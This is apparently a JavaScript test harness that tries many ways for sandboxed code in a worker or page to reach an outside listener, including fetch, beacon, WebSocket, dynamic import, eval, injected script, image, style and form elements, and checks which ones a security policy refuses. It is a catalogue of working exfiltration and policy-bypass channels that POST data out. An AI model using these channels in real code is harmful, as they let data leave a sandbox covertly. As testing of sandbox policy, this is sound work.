// Ways out, tried by code that runs inside a thread. Each takes the address of a listener and says whether it "ran" or
// was "refused"; what arrives at the listener counts all the same. JavaScript, because that is what an attacker has.

const settled = (promise) => promise.then(() => "ran", () => "refused");
const attempt = (start) => new Promise((done) => {
  try {
    start(() => done("ran"), () => done("refused"));
  } catch {
    done("refused");
  }
});

// Asked again from a timer: what a debugger evaluates is spared the policy on code made from words.
const later = (make) => attempt((ran, refused) => setTimeout(() => {
  try {
    make();
    ran();
  } catch {
    refused();
  }
}));

const element = (name, link, to) => attempt((ran, refused) => {
  const made = document.createElement(name);
  Object.assign(made, { rel: "stylesheet", onload: ran, onerror: refused, [link]: to });
  document.head.append(made);
});

({
  // In a worker and in a page.
  "a script from elsewhere": (to) => settled(import(`${to}/script.js`)),
  "a script from a data address": () => settled(import("data:text/javascript,self.ran=1")),
  "a script from a blob": () =>
    settled(import(URL.createObjectURL(new Blob(["self.ran = 1"], { type: "text/javascript" })))),
  "words as code": () => later(() => (0, eval)("1")),
  "a function from words": () => later(() => new Function("return 1")()),
  "a font": (to) => (self.FontFace ? settled(new FontFace("x", `url(${to}/font.woff2)`).load()) : "refused"),

  // With the means given back, or in the page, which has them.
  "fetch": (to) => settled(fetch(`${to}/fetch`, { mode: "no-cors", method: "POST", body: "pixels" })),
  "request": (to) => attempt((ran, refused) => {
    const request = new XMLHttpRequest();
    Object.assign(request, { onload: ran, onerror: refused });
    request.open("POST", `${to}/request`);
    request.send("pixels");
  }),
  "beacon": (to) => { navigator.sendBeacon?.(`${to}/beacon`, "pixels"); return "refused"; },
  "socket": (to) => attempt((ran, refused) =>
    Object.assign(new WebSocket(to.replace("http", "ws")), { onopen: ran, onerror: refused })),
  "events": (to) => attempt((ran, refused) => {
    const source = new EventSource(`${to}/events`);
    Object.assign(source, { onopen: ran, onerror: () => { source.close(); refused(); } });
  }),
  "a nested worker": () => attempt((ran, refused) =>
    Object.assign(new Worker("data:text/javascript,postMessage(1)"), { onmessage: ran, onerror: refused })),
  "a worker from a blob": () => attempt((ran, refused) =>
    Object.assign(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), { onmessage: ran, onerror: refused })),

  // In the page only.
  "a picture": (to) => element("img", "src", `${to}/picture.png`),
  "a script element": (to) => element("script", "src", `${to}/script.js`),
  "a style sheet": (to) => element("link", "href", `${to}/style.css`),
  "an inline script": () => {
    document.head.append(Object.assign(document.createElement("script"), { textContent: "window.ran = 1" }));
    return window.ran ? "ran" : "refused";
  },
  "a form": (to) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "x" });
    const form = Object.assign(document.createElement("form"), { action: `${to}/form`, method: "post", target: "x" });
    document.body.append(frame, form);
    form.submit();
    form.remove();
    frame.remove();
    return "refused";
  },
});
